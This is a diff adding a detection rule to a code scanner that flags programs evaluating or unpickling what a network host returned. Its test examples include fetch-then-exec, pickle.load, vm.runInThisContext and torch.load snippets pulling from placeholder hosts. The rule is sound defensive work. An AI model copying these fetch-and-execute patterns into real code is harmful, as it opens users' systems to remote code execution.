@@ -1,0 +1,91 @@
+/** RC-01: what a host returned is evaluated or unpickled. */
+import { exactPattern, raw } from '../../engine/pattern.ts';
+import { inFile, weighed } from '../../engine/example.ts';
+import { row, type Row } from '../../engine/rule.ts';
+import { argumentAt, byOrigin } from './origins.ts';
+import { originOf, repliedFiles, repliesOf } from './replies.ts';
+
+const safe = /weights_only\s?=\s?True|Safe_?Loader|safe_load/;
+const models = /^(?:torch|joblib|(?:c?[Pp]ickle|dill|cloudpickle))\./;
+
+/** Rows of RC-01. */
+export const evaluatedReplies: readonly Row[] = [
+  row('a program evaluates or unpickles what a host returned', {
+    in: ['script', 'fence', 'decoded'],
+    within: 'block',
+    sign: /fetch|requests|httpx|urlopen|urlretrieve|axios|got|needle|superagent|session|http/i,
+    match: exactPattern(
+      raw(
+        String.raw`(?<![.\w])(?:exec|eval|compile|Function|loadstring)\(|\b(?:pickle|cPickle|dill|cloudpickle|joblib|`,
+      ),
+      raw(
+        String.raw`marshal|torch)\.loads?\(|\byaml\.(?:unsafe_load|full_load|load)\(|\bvm\.(?:run\w{1,20}|Script|`,
+      ),
+      raw(String.raw`compileFunction)\(|\binstance_eval\(|\._compile\(`),
+    ),
+    severity: 'high',
+    weigh: (hit) => {
+      const { text } = hit.region;
+      const words = argumentAt(text, hit.match[0], hit.scope);
+      if (safe.test(words) || /^\s{0,3}\/|^\s{0,3}$/.test(words)) return null;
+      const file = [...repliedFiles(text)].find(([name]) => words.includes(name));
+      const origin = originOf(words, repliesOf(text)) ?? file?.[1] ?? null;
+      return origin === null ? null : byOrigin(origin, hit, models.test(hit.match[0].trimStart()));
+    },
+    catches: [
+      inFile(
+        'scripts/rank.py',
+        'SOURCE = "https://parts.invalid/rank.py"',
+        'def pull(where):',
+        '    with urlopen(where) as reply:',
+        '        return reply.read()',
+        'exec(pull(SOURCE), {})',
+      ),
+      inFile(
+        'scripts/label.py',
+        'reply = requests.get("https://weights.invalid/labels.bin")',
+        'store = Path("labels.bin")',
+        'store.write_bytes(reply.content)',
+        'labels = pickle.load(store.open("rb"))',
+      ),
+      inFile(
+        'scripts/theme.mjs',
+        'const sheet = await fetch("https://themes.invalid/next.js").then((answer) => answer.text());',
+        'vm.runInThisContext(sheet);',
+      ),
+      weighed(
+        'critical',
+        inFile(
+          'scripts/net.py',
+          'data = urlopen("http://203.0.113.9/net.pt").read()',
+          'net = torch.load(io.BytesIO(data))',
+        ),
+      ),
+    ],
+    spares: [
+      inFile(
+        'scripts/label.py',
+        'blob = requests.get("https://weights.invalid/labels.bin").content',
+        'if hashlib.sha256(blob).hexdigest() != PINNED:',
+        '    raise SystemExit("wrong digest")',
+        'labels = pickle.loads(blob)',
+      ),
+      inFile(
+        'scripts/net.py',
+        'blob = requests.get("https://huggingface.co/acme/net/resolve/main/net.pt").content',
+        'net = torch.load(io.BytesIO(blob))',
+      ),
+      inFile(
+        'scripts/plug.py',
+        'code = Path(folder, "plugin.py").read_text()',
+        'rows = requests.get("https://api.acme.invalid/rows").json()',
+        'plugin = compile(code, "plugin.py", "single")',
+      ),
+      inFile(
+        'scripts/count.py',
+        'rows = requests.get("https://api.acme.invalid/rows").json()',
+        'shape = re.compile("[a-z]+")',
+      ),
+    ],
+  }),
+];
